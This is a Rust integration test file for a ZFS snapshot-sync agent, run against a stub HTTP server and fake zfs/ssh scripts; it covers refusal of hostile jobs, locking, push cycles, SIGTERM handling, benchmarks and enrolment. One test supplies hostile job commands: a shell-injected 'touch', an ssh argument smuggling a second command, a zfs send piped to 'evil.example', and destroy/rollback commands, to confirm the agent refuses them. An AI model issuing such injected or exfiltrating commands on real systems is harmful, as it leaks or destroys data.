//! The agent binary against fakes: a stub witness (a tiny HTTP server in the test that answers
//! what a compromised or buggy server could) and fake `zfs`/`ssh` scripts that only record
//! that they ran; plus one cycle against the real server with fake `zfs` on OpenZFS.

mod support;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};
use support::{Host, Server, script, ssh_standin};

const ID: &str = "11111111-2222-3333-4444-555555555555";

/// A fake `zfs` that prints an OpenZFS usage, lists `$HOST/inventory` and records every other
/// call in `$HOST/ran` (send writes `$HOST/send-bytes` bytes; receive reads its input).
fn fake_zfs(host_dir: &Path) -> String {
    format!(
        r#"#!/bin/sh
H={h}
if [ $# -eq 0 ]; then
  cat >&2 <<'EOF'
usage: zfs command args ...
	list [-Hp] [-r|-d max] [-o property[,...]] [-s property]...
	send [-DLPbcehnpsVvw] [-i|-I snapshot] <snapshot>
	send [-DnVvPe] -t <receive_resume_token>
	receive [-FhMnsuv] [-o <property>=<value>] ... [-x <property>] ...
	bookmark <snapshot|bookmark> <newbookmark>
	hold [-r] <tag> <snapshot> ...
EOF
  exit 2
fi
case "$1" in
  list) cat "$H/inventory" 2>/dev/null; exit 0 ;;
  get) echo -; exit 0 ;;
esac
echo "$*" >> "$H/ran"
case "$1" in
  send) [ -e "$H/send-hangs" ] && exec sleep 3591
        head -c "$(cat "$H/send-bytes" 2>/dev/null || echo 1000)" /dev/zero ;;
  receive) wc -c > "$H/received" ;;
esac
"#,
        h = host_dir.display()
    )
}

/// A stub witness: answers the agent's requests from `instructions`, records every request.
struct Stub {
    url: String,
    requests: Arc<Mutex<Vec<(String, Value)>>>,
}

fn read_request(stream: &mut std::net::TcpStream) -> Option<(String, Value)> {
    let mut reader = BufReader::new(stream.try_clone().ok()?);
    let mut line = String::new();
    reader.read_line(&mut line).ok()?;
    let mut parts = line.split_whitespace();
    let (method, path) = (parts.next()?.to_string(), parts.next()?.to_string());
    let mut length = 0usize;
    loop {
        let mut h = String::new();
        reader.read_line(&mut h).ok()?;
        let h = h.trim_end();
        if h.is_empty() {
            break;
        }
        if let Some((k, v)) = h.split_once(':')
            && k.eq_ignore_ascii_case("content-length")
        {
            length = v.trim().parse().unwrap_or(0);
        }
    }
    let mut body = vec![0; length];
    reader.read_exact(&mut body).ok()?;
    let body = serde_json::from_slice(&body).unwrap_or(Value::Null);
    Some((format!("{method} {path}"), body))
}

impl Stub {
    fn start(instructions: Value) -> Stub {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let requests = Arc::new(Mutex::new(Vec::new()));
        let seen = requests.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let Some((request, body)) = read_request(&mut stream) else {
                    continue;
                };
                let answer = if request.contains("/heartbeat") {
                    json!({"system_id": ID, "status": "online"})
                } else if request.starts_with("GET /api/v1/sync/instructions") {
                    instructions.clone()
                } else if request.starts_with("GET /api/v1/systems/") {
                    json!({"id": ID, "capabilities": null})
                } else {
                    json!({})
                };
                seen.lock().unwrap().push((request, body));
                let text = answer.to_string();
                let _ = write!(
                    stream,
                    "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{text}",
                    text.len()
                );
            }
        });
        Stub { url, requests }
    }

    fn results(&self) -> Vec<Value> {
        self.requests
            .lock()
            .unwrap()
            .iter()
            .filter(|(r, _)| r.ends_with("/result"))
            .map(|(_, b)| b.clone())
            .collect()
    }
}

fn host(dir: &Path, name: &str, id: &str, key: &str) -> Host {
    let h = Host {
        name: name.into(),
        id: id.into(),
        key: key.into(),
        dir: dir.join(name),
    };
    script(&h.bin().join("zfs"), &fake_zfs(&h.dir));
    h
}

fn job(id: &str, kind: &str, destructive: bool, argv: Value) -> Value {
    json!({
        "job_id": id, "kind": kind, "transfer": "push", "destructive": destructive,
        "source_ssh_hostname": "hub", "target_ssh_hostname": "backup1",
        "source_dataset_path": "tank/vm", "target_dataset_path": "backup/vm",
        "argv": argv, "commands": [],
    })
}

#[test]
fn hostile_instructions_are_refused_and_nothing_runs() {
    let tmp = tempfile::tempdir().unwrap();
    let pwned = tmp.path().join("pwned");
    let p = pwned.display().to_string();
    let stub = Stub::start(json!({"datasets": [
        job("a0000000-0000-0000-0000-000000000001", "full", false,
            json!([[["sh", "-c", format!("touch {p}")]]])),
        job("a0000000-0000-0000-0000-000000000002", "full", false,
            json!([[["zfs", "send", "tank/vm@a"],
                    ["ssh", "-o", "BatchMode=yes", "backup1", format!("zfs receive backup/vm; touch {p}")]]])),
        job("a0000000-0000-0000-0000-000000000003", "full", false,
            json!([[["zfs", "send", "tank/vm@a"],
                    ["ssh", "-o", "BatchMode=yes", "evil.example", "zfs receive backup/vm"]]])),
        job("a0000000-0000-0000-0000-000000000004", "full", false,
            json!([[["zfs", "destroy", "tank/vm@a"]]])),
        job("a0000000-0000-0000-0000-000000000005", "rollback", false,
            json!([[["zfs", "rollback", "-r", "tank/vm@a"]]])),
        job("a0000000-0000-0000-0000-000000000006", "full", false,
            json!([[["zfs", "send", "tank/vm@a"],
                    ["ssh", "-o", "BatchMode=yes", "backup1", "zfs receive -F backup/vm"]]])),
    ]}));
    let h = host(tmp.path(), "hub", ID, "key");
    script(
        &h.bin().join("ssh"),
        &format!("#!/bin/sh\necho ssh >> {}/ran\n", h.dir.display()),
    );
    let out = h.once(&stub.url, &[]);
    let log = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{log}");
    let results = stub.results();
    assert_eq!(results.len(), 6, "{results:?}");
    for r in &results {
        assert_eq!(r["status"], "failed", "{r}");
        assert!(r["error"].as_str().unwrap().starts_with("refused"), "{r}");
    }
    assert!(!pwned.exists(), "a hostile command ran");
    assert!(
        !h.dir.join("ran").exists(),
        "no zfs or ssh command may run: {}",
        std::fs::read_to_string(h.dir.join("ran")).unwrap_or_default()
    );
}

#[test]
fn configuration_and_connection_errors_exit_2() {
    let tmp = tempfile::tempdir().unwrap();
    let h = host(tmp.path(), "hub", ID, "key");
    let out = h
        .agent(
            "http://127.0.0.1:9",
            &["once"],
            &[("ZFS_SYNC_STALL_SECONDS", "0")],
        )
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("stall_seconds"));
    let port = TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let out = h.once(&format!("http://127.0.0.1:{port}"), &[]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("connection"));
}

#[test]
fn a_second_agent_does_not_run_while_the_lock_is_held() {
    let tmp = tempfile::tempdir().unwrap();
    let stub = Stub::start(json!({"datasets": []}));
    let h = host(tmp.path(), "hub", ID, "key");
    std::fs::create_dir_all(&h.dir).unwrap();
    let lock = std::fs::File::create(h.dir.join("lock")).unwrap();
    lock.lock().unwrap();
    let out = h.once(&stub.url, &[]);
    assert_eq!(out.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&out.stderr).contains("another agent holds the lock"));
    assert!(stub.requests.lock().unwrap().is_empty());
    drop(lock);
    let out = h.once(&stub.url, &[]);
    assert_eq!(out.status.code(), Some(0));
    assert!(!stub.requests.lock().unwrap().is_empty());
}

/// One push cycle against the real server with fake `zfs` on OpenZFS: the capabilities reach
/// the witness (so `-s` is planned), the pipeline runs on both hosts, the bytes are counted,
/// the result is recorded, and an unchanged inventory is not sent again.
#[test]
fn one_push_cycle_against_the_real_server() {
    let tmp = tempfile::tempdir().unwrap();
    let server = Server::start(tmp.path(), &[]);
    let hosts_dir = tmp.path().join("hosts");
    let (hub_id, hub_key) = server.register("hub1");
    let (t_id, t_key) = server.register("backup1");
    let hub = host(&hosts_dir, "hub1", &hub_id, &hub_key);
    let target = host(&hosts_dir, "backup1", &t_id, &t_key);
    for h in [&hub, &target] {
        script(&h.bin().join("ssh"), &ssh_standin(&hosts_dir, 3333));
    }
    std::fs::write(
        hub.dir.join("inventory"),
        "tank\tfilesystem\t1\t1\t1700000000\t1\t1\t-\n\
         tank/vm\tfilesystem\t2\t2\t1700000000\t1\t1\t-\n\
         tank/vm@a\tsnapshot\t42\t5\t1700000100\t1\t1\t-\n",
    )
    .unwrap();
    std::fs::write(
        target.dir.join("inventory"),
        "backup\tfilesystem\t9\t1\t1700000000\t1\t1\t-\n",
    )
    .unwrap();
    std::fs::write(hub.dir.join("send-bytes"), "777777").unwrap();
    let (status, g) = server.admin(
        "POST",
        "/sync-groups",
        Some(
            json!({"name": "g", "directional": true, "hub_system_id": hub_id,
            "system_ids": [hub_id, t_id],
            "members": [{"system_id": t_id, "dataset_root": "backup"}]}),
        ),
    );
    assert_eq!(status, 201, "{g}");
    let out = target.once(&server.url, &[]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = hub.once(&server.url, &[]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let sent = std::fs::read_to_string(hub.dir.join("ran")).unwrap();
    assert_eq!(sent.trim(), "send tank/vm@a");
    let received = std::fs::read_to_string(target.dir.join("ran")).unwrap();
    assert_eq!(received.trim(), "receive -s -u backup/vm");
    assert_eq!(
        std::fs::read_to_string(target.dir.join("received"))
            .unwrap()
            .trim(),
        "777777"
    );
    let (_, jobs) = server.admin("GET", "/sync/jobs", None);
    assert_eq!(jobs[0]["status"], "succeeded", "{jobs}");
    assert_eq!(jobs[0]["bytes"], 777777, "{jobs}");
    let (_, sys) = server.admin("GET", &format!("/systems/{hub_id}"), None);
    assert_eq!(sys["capabilities"]["resumable_receive"], true, "{sys}");
    assert!(
        sys["extra_metadata"]["agent"]["zfs"]["bookmarks"] == true,
        "{sys}"
    );
    let out = hub.once(&server.url, &[("ZFS_SYNC_LOG", "debug")]);
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("report skipped"));
}

/// `run` stops on SIGTERM: no new work, the running transfer gets the grace period, then it is
/// killed and reported failed as interrupted; the process exits 0.
#[test]
fn run_stops_on_sigterm_and_reports_the_killed_transfer() {
    let tmp = tempfile::tempdir().unwrap();
    let stub = Stub::start(json!({"datasets": [
        job("b0000000-0000-0000-0000-000000000001", "full", false,
            json!([[["zfs", "send", "tank/vm@a"],
                    ["ssh", "-o", "BatchMode=yes", "backup1", "zfs receive -s -u backup/vm"]]])),
    ]}));
    let h = host(tmp.path(), "hub", ID, "key");
    script(&h.bin().join("ssh"), "#!/bin/sh\nexec cat > /dev/null\n");
    std::fs::write(h.dir.join("send-hangs"), "").unwrap();
    let mut child = h
        .agent(
            &stub.url,
            &["run"],
            &[
                ("ZFS_SYNC_GRACE_SECONDS", "1"),
                ("ZFS_SYNC_INTERVAL_SECONDS", "3600"),
            ],
        )
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    support::wait_for(
        std::time::Duration::from_secs(60),
        "the transfer to start",
        || h.dir.join("ran").exists().then_some(()),
    );
    let pid = child.id().to_string();
    assert!(
        std::process::Command::new("kill")
            .args(["-TERM", &pid])
            .status()
            .unwrap()
            .success()
    );
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(0));
    let results = stub.results();
    assert_eq!(results.len(), 1, "{results:?}");
    assert_eq!(results[0]["status"], "failed");
    let error = results[0]["error"].as_str().unwrap();
    assert!(error.contains("interrupted"), "{error}");
    // One cycle only: the instructions were fetched once.
    let fetched = stub
        .requests
        .lock()
        .unwrap()
        .iter()
        .filter(|(r, _)| r.contains("/sync/instructions"))
        .count();
    assert_eq!(fetched, 1);
}

/// A TCP proxy in front of `target` counting the bytes of both directions.
fn counting_proxy(target: &str) -> (String, Arc<std::sync::atomic::AtomicU64>) {
    use std::sync::atomic::{AtomicU64, Ordering};
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let counted = Arc::new(AtomicU64::new(0));
    let total = counted.clone();
    let target = target.trim_start_matches("http://").to_string();
    std::thread::spawn(move || {
        for client in listener.incoming().flatten() {
            let Ok(server) = std::net::TcpStream::connect(&target) else {
                continue;
            };
            for (mut from, mut to) in [
                (client.try_clone().unwrap(), server.try_clone().unwrap()),
                (server, client),
            ] {
                let total = total.clone();
                std::thread::spawn(move || {
                    let mut buf = [0u8; 65536];
                    while let Ok(n) = from.read(&mut buf) {
                        if n == 0 || to.write_all(&buf[..n]).is_err() {
                            break;
                        }
                        total.fetch_add(n as u64, Ordering::Relaxed);
                    }
                    let _ = to.shutdown(std::net::Shutdown::Write);
                });
            }
        }
    });
    (url, counted)
}

/// Figures for BENCHMARKS.md, by hand (`ZFS_SYNC_AGENT_BIN=target/release/zfs-sync-agent
/// cargo nextest run -p zfs-sync-agent --run-ignored only figures`): a host with 200
/// datasets × 500 snapshots; the first cycle's report, then an unchanged cycle's wall time
/// and bytes on the wire, and the idle RSS of `run` after its first cycle.
#[test]
#[ignore = "figures for BENCHMARKS.md; run by hand"]
fn figures_unchanged_cycle_of_a_big_host() {
    use std::sync::atomic::Ordering;
    let tmp = tempfile::tempdir().unwrap();
    let server = Server::start(tmp.path(), &[]);
    let (proxy, bytes) = counting_proxy(&server.url);
    let hosts_dir = tmp.path().join("hosts");
    let (hub_id, hub_key) = server.register("bighub");
    let (t_id, t_key) = server.register("bigbackup");
    let hub = host(&hosts_dir, "bighub", &hub_id, &hub_key);
    let target = host(&hosts_dir, "bigbackup", &t_id, &t_key);
    let mut inv = String::new();
    let mut backup = String::new();
    for d in 0..200 {
        for s in 0..500u64 {
            let line = |pool: &str| {
                format!(
                    "{pool}/ds{d}@s{s}\tsnapshot\t{}\t{}\t{}\t4096\t8192\t-\n",
                    d * 1_000_000 + s + 1,
                    d * 1000 + s + 10,
                    1_700_000_000 + s * 60
                )
            };
            inv.push_str(&line("tank"));
            backup.push_str(&line("backup"));
        }
    }
    std::fs::write(hub.dir.join("inventory"), inv).unwrap();
    std::fs::write(target.dir.join("inventory"), backup).unwrap();
    let (status, g) = server.admin(
        "POST",
        "/sync-groups",
        Some(
            json!({"name": "big", "directional": true, "hub_system_id": hub_id,
            "system_ids": [hub_id, t_id],
            "members": [{"system_id": t_id, "dataset_root": "backup"}]}),
        ),
    );
    assert_eq!(status, 201, "{g}");
    assert!(target.once(&proxy, &[]).status.success());
    let before = bytes.load(Ordering::Relaxed);
    let t = std::time::Instant::now();
    assert!(hub.once(&proxy, &[]).status.success());
    let first = (t.elapsed(), bytes.load(Ordering::Relaxed) - before);
    let before = bytes.load(Ordering::Relaxed);
    let t = std::time::Instant::now();
    let out = hub.once(&proxy, &[("ZFS_SYNC_LOG", "debug")]);
    let unchanged = (t.elapsed(), bytes.load(Ordering::Relaxed) - before);
    assert!(out.status.success());
    let log = String::from_utf8_lossy(&out.stderr);
    assert!(log.contains("report skipped"), "{log}");
    eprintln!("FIGURES unchanged cycle's log:\n{log}");
    assert!(!hub.dir.join("ran").exists(), "in sync: nothing to run");
    let mut run = hub
        .agent(&proxy, &["run"], &[("ZFS_SYNC_INTERVAL_SECONDS", "3600")])
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let before = bytes.load(Ordering::Relaxed);
    support::wait_for(std::time::Duration::from_secs(60), "a cycle", || {
        (bytes.load(Ordering::Relaxed) > before).then_some(())
    });
    std::thread::sleep(std::time::Duration::from_secs(3));
    let status = std::fs::read_to_string(format!("/proc/{}/status", run.id())).unwrap();
    let rss = status
        .lines()
        .find(|l| l.starts_with("VmRSS"))
        .unwrap()
        .to_string();
    let hwm = status
        .lines()
        .find(|l| l.starts_with("VmHWM"))
        .unwrap()
        .to_string();
    run.kill().unwrap();
    let _ = run.wait();
    eprintln!(
        "FIGURES first cycle (100,000 snapshots reported): {:?}, {} bytes on the wire; \
         unchanged cycle: {:?}, {} bytes; run after one unchanged cycle: {rss}, {hwm}",
        first.0, first.1, unchanged.0, unchanged.1
    );
}

/// `enroll` registers the host and writes its configuration (0600); a second enrolment needs
/// `--force`, which rotates the key (the old one stops working); `plan` and `status` read the
/// written configuration.
#[test]
fn enroll_then_plan_and_status() {
    use std::os::unix::fs::PermissionsExt;
    let tmp = tempfile::tempdir().unwrap();
    let server = Server::start(tmp.path(), &[]);
    let mut h = host(tmp.path(), "newhost", "", "");
    let out = h.enroll(&server.url, &["--ssh-user", "zsync", "--ssh-port", "2222"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let config = h.dir.join("agent.toml");
    let mode = std::fs::metadata(&config).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
    let (_, sys) = server.admin("GET", &format!("/systems/{}", h.id), None);
    assert_eq!(sys["ssh_user"], "zsync", "{sys}");
    assert_eq!(sys["ssh_port"], 2222, "{sys}");
    assert_eq!(sys["capabilities"]["resumable_receive"], true, "{sys}");
    let with_config = |h: &Host, args: &[&str]| {
        h.agent(
            &server.url,
            args,
            &[("ZFS_SYNC_CONFIG", config.to_str().unwrap())],
        )
        .env_remove("ZFS_SYNC_API_KEY")
        .env_remove("ZFS_SYNC_SYSTEM_ID")
        .env_remove("ZFS_SYNC_SERVER")
        .output()
        .unwrap()
    };
    let out = with_config(&h, &["status", "--json"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let status: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(status["system"]["hostname"], "newhost");
    let out = with_config(&h, &["plan", "--json"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let plan: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(plan["jobs"], json!([]));

    let old_key = h.key.clone();
    let again = h.enroll(&server.url, &[]);
    assert_eq!(again.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&again.stderr).contains("--force"));
    let forced = h.enroll(&server.url, &["--force"]);
    assert!(
        forced.status.success(),
        "{}",
        String::from_utf8_lossy(&forced.stderr)
    );
    assert_ne!(h.key, old_key);
    let (status, _) = support::call(
        &server.url,
        &old_key,
        "GET",
        &format!("/systems/{}", h.id),
        None,
    );
    assert_eq!(status, 401);
    assert!(with_config(&h, &["status"]).status.success());
}
